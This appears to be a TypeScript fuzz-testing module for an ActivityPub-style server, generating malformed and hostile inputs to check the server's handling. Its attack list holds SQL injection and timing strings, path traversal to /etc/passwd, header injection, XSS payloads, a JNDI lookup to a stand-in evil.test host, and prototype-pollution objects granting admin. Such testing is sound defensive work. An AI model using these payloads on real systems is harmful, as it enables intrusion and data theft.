import fc from 'fast-check'
import type { Json } from './peer.ts'
import { ORIGIN } from './world.ts'

/** S-150 and its kin: what somebody types who wants to know how the server is made. */
const attacks = [
  "' OR '1'='1",
  "'; DROP TABLE post; --",
  '1; SELECT pg_sleep(5)',
  "1' AND pg_sleep(5)::text = '",
  '\\',
  '%',
  '_%',
  "\\'; --",
  '$1',
  '$$; SELECT 1; $$',
  "x'::regclass",
  "E'\\\\x00'",
  'a & !b | (c <-> d):*',
  '{"$ne": null}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f',
  '%c0%ae%c0%ae%2f',
  '%00',
  '%0d%0aSet-Cookie:%20a=b',
  '%ed%a0%80',
  '%ff%fe',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  '{{7*7}}',
  // What a shell or a template would fill in, not JavaScript.
  '$' + '{jndi:ldap://evil.test/a}',
  '//evil.test',
  '/\\evil.test',
  'https://evil.test/',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '-1',
  '0',
  '00',
  '1e3',
  '0x10',
  '9223372036854775807',
  '9223372036854775808',
  '99999999999999999999999',
  '١٢٣',
  '‮name',
  'İstanbul',
  '👩‍👩‍👧‍👦'.repeat(20),
  'a'.repeat(3000),
  '[]',
  '',
] as const

/** Any text at all, more often one that somebody would try on purpose. */
export const word = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...attacks) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
)

/** As it may stand in a request line: printable, or escaped. */
export const inPath = fc
  .tuple(word, fc.boolean())
  .map(([text, raw]) => (raw ? text.replace(/[^!-~]|[#?]/gu, (sign) => escaped(sign)) : escaped(text)))
const escaped = (text: string) => encodeURIComponent(text.toWellFormed())

const value: fc.Arbitrary<unknown> = fc.oneof(
  word,
  fc.constantFrom<unknown>(
    null,
    true,
    0,
    -1,
    1e308,
    2 ** 53,
    [],
    {},
    [[]],
    [null],
    [[['x']]],
    '\0',
    'a\0b',
    '\ud800',
    '\udc00x',
    'x'.repeat(100_000),
    '9999999-01-01T00:00:00Z',
    '-271821-04-20T00:00:00Z',
    '2026-13-45T99:99:99Z',
    '0000-00-00',
    'https://[::1/',
    'https://far.test:99999/',
    'https://far.test/\u0000',
    'https://FAR.test./users/alice',
    'http://far.test/users/alice',
    `${ORIGIN}/ap/actors/1`,
    `${ORIGIN}/`,
    'as:Public',
    'https://www.w3.org/ns/activitystreams#Public',
    { id: 'https://far.test/x', type: ['Note', 'Person'] },
    { '@value': 'x', '@language': 'x-@@' },
    { '@id': 'https://evil.test/', '@reverse': { object: 'x' } },
    { '@graph': [{ id: 'https://evil.test/' }] },
    { type: 'Link', href: { href: { href: 'x' } } },
    { toString: 1, valueOf: null, hasOwnProperty: 0 },
    { 'x-@@': 'language', __proto: 1, '': '' },
    Array.from({ length: 300 }, (_, n) => `https://far.test/users/${n}`),
    nested(31),
    nested(500),
  ),
)

function nested(depth: number): unknown {
  let inner: unknown = 'x'
  for (let level = 0; level < depth; level += 1) inner = level % 2 ? [inner] : { object: inner }
  return inner
}

/** One way to spoil a document, at one of its places. */
export interface Change {
  readonly at: number
  readonly how: 'set' | 'drop' | 'list' | 'unlist' | 'wrap' | 'add' | 'proto' | 'reverse'
  readonly name: string
  readonly value: unknown
}
export const change: fc.Arbitrary<Change> = fc.record({
  at: fc.nat(1000),
  how: fc.constantFrom('set', 'set', 'set', 'drop', 'list', 'unlist', 'wrap', 'add', 'proto', 'reverse'),
  name: fc.constantFrom(
    ...['@context', '@graph', '@type', '@id', 'type', 'id', 'actor', 'to', 'cc', 'object', 'contentMap'],
    ...['summaryMap', 'nameMap', 'tag', 'inReplyTo', 'updated', 'published', 'url', 'source', 'preview'],
    ...[
      'attributedTo',
      'quoteUrl',
      'replies',
      'duration',
      'icon',
      'mediaType',
      'oneOf',
      'signature',
      'proof',
    ],
  ),
  value,
})

type Holder = Record<string, unknown> | unknown[]

/** Every place in a document, as holder and key. */
function placesIn(holder: Holder, found: [Holder, string][] = []): [Holder, string][] {
  for (const key of Object.keys(holder)) {
    found.push([holder, key])
    const inner = (holder as Record<string, unknown>)[key]
    if (typeof inner === 'object' && inner !== null) placesIn(inner as Holder, found)
  }
  return found
}

/** The document as text, spoiled in these ways one after another. */
export function changed(document: Json, changes: readonly Change[]): string {
  const copy = structuredClone(document)
  for (const { at, how, name, value: shared } of changes) {
    const value = structuredClone(shared)
    const places = placesIn(copy)
    const [holder, key] = places[at % Math.max(places.length, 1)] ?? [copy, 'type']
    const target = holder as Record<string, unknown>
    if (how === 'set') target[key] = value
    if (how === 'drop') delete target[key]
    if (how === 'list') target[key] = [target[key], value]
    if (how === 'unlist' && Array.isArray(target[key])) target[key] = target[key][0]
    if (how === 'wrap') target[key] = { type: 'Object', [key]: target[key] }
    if (how === 'add') target[name] = value
    if (how === 'proto') target.PROTO = { admin: true, type: 'Create' }
  }
  const last = changes.at(-1)
  const order = last?.how === 'reverse' ? Object.fromEntries(Object.entries(copy).reverse()) : copy
  const text = JSON.stringify(order).replaceAll('"PROTO"', '"__proto__"')
  // The same name twice: who reads the first and who reads the last must not be told different things.
  return last?.how === 'add' && !Array.isArray(last.value)
    ? text.replace(/\}$/, `,${JSON.stringify(last.name)}:${JSON.stringify(last.value)}}`)
    : text
}
